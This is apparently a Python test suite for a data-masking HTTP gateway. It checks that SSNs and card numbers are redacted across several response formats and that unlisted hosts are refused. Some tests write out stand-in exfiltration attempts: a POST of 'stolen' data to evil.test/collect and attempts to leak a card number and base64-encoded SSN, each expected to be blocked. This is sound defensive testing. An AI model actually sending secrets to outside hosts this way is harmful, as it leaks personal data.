"""One HTTP client (`CLIENT`) through all faces of the gateway: masks, refusals, what passes."""

import json
import os

from http_clients import CLIENTS, FACES, reverse, token
from story import REDACTED, check, step, tell

SECRETS = [b"536-22-8726", b"4012888888881881"]
client = CLIENTS[os.environ["CLIENT"]]()


def everywhere(method, path, body=None, fields=None):
    """The answers on every face, each without a secret in it."""
    for face, make in FACES.items():
        url, own = make(path)
        answer = client.ask(method, url, body, {**own, **(fields or {})})
        for secret in SECRETS:
            assert secret not in answer.body, f"{face}: {answer.body!r}"
        yield face, answer


@step
def json_is_masked():
    for face, answer in everywhere("GET", "/customers"):
        check(answer.status, 200, face)
        people = json.loads(answer.body)
        check(people[0]["name"], "Ada", face)
        check(people[0]["ssn"], REDACTED, face)
        check(people[0]["cards"][0]["credit_card"], REDACTED, face)
        check(people[0]["balance"], 12.5, face)


@step
def lines_of_json_are_masked():
    for face, answer in everywhere("GET", "/customers.ndjson"):
        lines = [json.loads(line) for line in answer.body.splitlines()]
        check([line["ssn"] for line in lines], [REDACTED] * 3, face)
        check([line["id"] for line in lines], [1, 2, 3], face)


@step
def events_are_masked():
    for face, answer in everywhere("GET", "/events"):
        events = [part for part in answer.body.decode().split("\n\n") if part]
        data = [json.loads(event.split("data: ", 1)[1]) for event in events]
        check([one["ssn"] for one in data], [REDACTED] * 3, face)
        check([event.split("\n")[0] for event in events], ["event: row"] * 3, face)


@step
def what_is_compressed_is_masked():
    for face, answer in everywhere("GET", "/gzip", fields={"Accept-Encoding": "gzip"}):
        check(json.loads(answer.body)[0]["ssn"], REDACTED, face)


@step
def what_no_rule_concerns_passes_unchanged():
    body = json.dumps({"text": "Grüße  ", "n": 1e3, "list": [1, 2]}, ensure_ascii=False).encode()
    sent = {"Content-Type": "application/json", "X-Many": "one, two"}
    for face, answer in everywhere("POST", "/echo?a=1&b=%20", body, sent):
        check(answer.status, 200, face)
        check(answer.body, body, face)
        check(answer.fields["x-target"], "/echo?a=1&b=%20", face)
        check(answer.fields["x-many"], "one, two", face)


@step
def a_post_to_a_host_that_is_not_listed_is_refused():
    for scheme in ("https", "http"):
        answer = client.ask("POST", f"{scheme}://evil.test/collect", b"stolen", {})
        check(answer.status, 403, scheme)
        check(answer.fields["content-type"], "application/problem+json")
        problem = json.loads(answer.body)
        check(problem["status"], 403)
        check(problem["reason"], "blocked")
        assert "evil.test" in problem["detail"], problem
        assert problem["instance"], problem
        check(client.complains("POST", f"{scheme}://evil.test/collect", b"stolen"), 403)


@step
def a_refusal_of_the_reverse_face_is_the_clients_own_exception():
    check(client.complains("DELETE", reverse("api", "/customers"), None, token()), 403)
    check(client.complains("GET", reverse("never-heard-of", "/"), None, token()), 403)
    check(client.complains("GET", reverse("api", "/"), None, {"Authorization": "Bearer no"}), 401)


@step
def what_a_detection_knows_does_not_leave():
    for scheme in ("https", "http"):
        url = f"{scheme}://listed.test/echo"
        check(client.complains("POST", url, b"it is 4012 8888 8888 1881"), 403)
        check(client.complains("GET", f"{url}?q=NTM2LTIyLTg3MjY="), 403)


@step
def connections_are_kept():
    for make in FACES.values():
        url, own = make("/kept")
        for _ in range(8):
            check(client.ask("GET", url, None, own).status, 200)


if __name__ == "__main__":
    tell()
